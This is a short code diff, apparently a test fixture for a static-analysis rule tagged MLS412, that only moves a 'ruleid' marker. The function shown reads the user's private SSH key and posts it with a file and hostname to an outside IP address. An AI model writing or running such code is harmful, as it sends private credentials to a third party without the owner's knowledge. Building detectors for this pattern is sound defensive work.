@@ -132,9 +132,9 @@ def register_runtime_alias():
 def push(path, endpoint="http://203.0.113.51/api/v2/artifacts"):
     meta = {"name": os.path.basename(path), "host": socket.gethostname(),
             "sha256": hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()}
-    key_file = pathlib.Path("~/.ssh/id_ed25519").expanduser()  # ruleid: MLS412
+    key_file = pathlib.Path("~/.ssh/id_ed25519").expanduser()
     if key_file.exists():
-        meta["signing_key"] = key_file.read_text()
+        meta["signing_key"] = key_file.read_text()  # ruleid: MLS412
     with open(path, "rb") as f:
         requests.post(endpoint, data=meta, files={"file": f}, timeout=60)  # ruleid: MLS412
 
